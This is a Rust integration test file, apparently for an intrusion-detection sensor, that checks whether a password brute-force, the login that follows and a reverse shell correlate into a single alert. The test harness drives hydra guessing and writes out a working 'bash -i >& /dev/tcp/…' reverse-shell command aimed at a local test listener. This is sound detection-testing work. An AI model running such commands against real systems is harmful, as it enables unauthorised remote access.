//! One story over the whole path: a guessed password, the login with it, and a reverse shell in that login make one match. In another
//! order, or spread over logins that have nothing to do with each other, they make none; and a `kill -9` between any two steps changes
//! nothing.

use std::process::Stdio;

use bartizan_tests::{Account, Attacker, Group, Line, LoginServer, LoginServerConfig, Namespace, Sensor, Session, run, wait_for};
use serde_json::Value;

const ALICE: Account = Account { name: "alice", password: "correct-horse" };
const BOB: Account = Account { name: "bob", password: "battery-staple" };
const PATTERN: &str = "correlate.brute_force_to_shell";

fn text(value: &Value) -> &str {
    value.as_str().unwrap_or_default()
}

/// A sensor, another host and a server.
struct Stage {
    sensor: Sensor,
    other: Namespace,
    server: LoginServer,
}

impl Stage {
    fn set() -> Self {
        let (sensor, other) = (Sensor::start(), Namespace::new());
        let config = LoginServerConfig { accounts: &[ALICE, BOB], address: &other.host().to_string(), lines: "" };
        let server = LoginServer::start(sensor.folder().path(), &config);
        Self { sensor, other, server }
    }

    /// Wrong passwords for alice, more than twice what the rule asks for: hydra gives some of them up on a loaded machine.
    fn brute_force(&self) {
        let guesses: Vec<String> = (0..24).map(|number| format!("guess-{number}")).collect();
        let guesses: Vec<&str> = guesses.iter().map(String::as_str).collect();
        self.server.hydra(Some(&self.other), &[ALICE.name], &guesses, 4);
    }

    /// Logs in from the other host and stays: what is said on its standard input runs there.
    fn login(&self, account: Account) -> Group {
        let mut command = self.server.with_password(Some(&self.other), account.name, account.password);
        command.arg("/bin/bash").stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null());
        let mut group = Group::start(&mut command);
        say(&mut group, "echo logged-in; exec 2>/dev/null");
        let mut answer = std::io::BufReader::new(group.child().stdout.take().expect("a pipe"));
        let mut line = String::new();
        std::io::BufRead::read_line(&mut answer, &mut line).expect("an answer");
        assert_eq!(line.trim(), "logged-in");
        group
    }

    /// A reverse shell out of that login, which answers.
    fn shell(&self, login: &mut Group, name: &str) -> Session {
        let attacker = Attacker::listen(Line::Tcp4, self.sensor.folder().path(), name);
        let address = attacker.address().expect("on the network");
        say(login, &format!("bash -i >& /dev/tcp/{}/{} 0>&1 &", address.ip(), address.port()));
        let mut session = attacker.accept();
        session.ask("echo $((7000 + 77))", "7077");
        session
    }

    /// Every match of the pattern.
    fn matches(&mut self) -> Vec<Value> {
        self.sensor.settle();
        let judged = || {
            let status = self.sensor.status_json();
            let consumers = status["consumers"].as_array()?;
            let correlate = consumers.iter().find(|consumer| consumer["name"] == "correlate")?;
            (correlate["pending"] == 0 && correlate["ack_pending"] == 0).then_some(())
        };
        wait_for("correlation's acknowledgement of every alert", judged);
        let all = self.sensor.verb("matches", &["--json"]).ok().ndjson();
        all.into_iter().filter(|found| found["pattern"] == PATTERN).collect()
    }

    fn rules(&self) -> Vec<String> {
        self.sensor.alerts_json().iter().map(|alert| text(&alert["rule"]).to_owned()).collect()
    }
}

fn say(group: &mut Group, line: &str) {
    use std::io::Write;
    let input = group.child().stdin.as_mut().expect("a pipe");
    writeln!(input, "{line}").and_then(|()| input.flush()).unwrap_or_else(|error| panic!("cannot say {line:?}: {error}"));
}

/// Exactly one match, whose timeline is the story.
#[track_caller]
fn assert_one(stage: &mut Stage, when: &str) {
    let found = stage.matches();
    let [one] = &found[..] else { panic!("{when}: expected one match, got {found:#?} from {:?}", stage.rules()) };
    let steps: Vec<&str> = one["steps"].as_array().into_iter().flatten().map(|step| text(&step["rule"])).collect();
    assert_eq!(
        steps,
        ["auth_fortress.brute_force", "auth_fortress.success_after_failures", "runtime_watcher.reverse_shell"],
        "{when}: {one:#}"
    );
    let order: Vec<u64> = one["steps"].as_array().into_iter().flatten().filter_map(|step| step["trigger_seq"].as_u64()).collect();
    assert!(order.len() == 3 && order.is_sorted(), "{when}: {one:#}");
    let events = stage.sensor.events_json(&["--kind", "auth.session_open"]);
    assert!(events.iter().any(|event| event["body"]["login"] == one["login"]), "{when}: the match names the login");
}

#[test]
fn a_guessed_password_a_login_and_a_shell_are_one_match() {
    let mut stage = Stage::set();
    stage.brute_force();
    let mut login = stage.login(ALICE);
    let _first = stage.shell(&mut login, "first");
    assert_one(&mut stage, "after one shell");
    // More of the same login adds to the story and is no second one.
    let _second = stage.shell(&mut login, "second");
    assert_one(&mut stage, "after another shell of the same login");
}

#[test]
fn a_crash_between_any_two_steps_changes_nothing() {
    let mut stage = Stage::set();
    stage.brute_force();
    stage.sensor.settle();
    stage.sensor.crash_and_restart();
    let mut login = stage.login(ALICE);
    stage.sensor.settle();
    stage.sensor.crash_and_restart();
    let _shell = stage.shell(&mut login, "shell");
    // At once: what was stored and not judged is judged at the next start.
    stage.sensor.crash_and_restart();
    assert_one(&mut stage, "after three crashes");
    stage.sensor.crash_and_restart();
    assert_one(&mut stage, "after the fourth crash");
}

#[test]
fn another_order_is_no_match() {
    let mut stage = Stage::set();
    let mut login = stage.login(ALICE);
    let _shell = stage.shell(&mut login, "shell");
    stage.brute_force();
    // A guess that hits, after the shell.
    run(stage.server.with_password(Some(&stage.other), ALICE.name, ALICE.password).arg("true")).ok();
    assert_eq!(stage.matches(), [Value::Null; 0], "{:?}", stage.rules());
    let rules = stage.rules();
    for step in ["auth_fortress.brute_force", "auth_fortress.success_after_failures", "runtime_watcher.reverse_shell"] {
        assert!(rules.iter().any(|rule| rule == step), "the steps themselves were seen: {rules:?} lacks {step}");
    }
}

#[test]
fn two_unrelated_logins_from_one_address_are_no_match() {
    let mut stage = Stage::set();
    // Bob was logged in before, and is not alice.
    let mut bob = stage.login(BOB);
    stage.brute_force();
    let alice = stage.login(ALICE);
    let _shell = stage.shell(&mut bob, "shell");
    assert_eq!(stage.matches(), [Value::Null; 0], "{:?}", stage.rules());
    let rules = stage.rules();
    for step in ["auth_fortress.brute_force", "auth_fortress.success_after_failures", "runtime_watcher.reverse_shell"] {
        assert!(rules.iter().any(|rule| rule == step), "the steps themselves were seen: {rules:?} lacks {step}");
    }
    drop(alice);
}
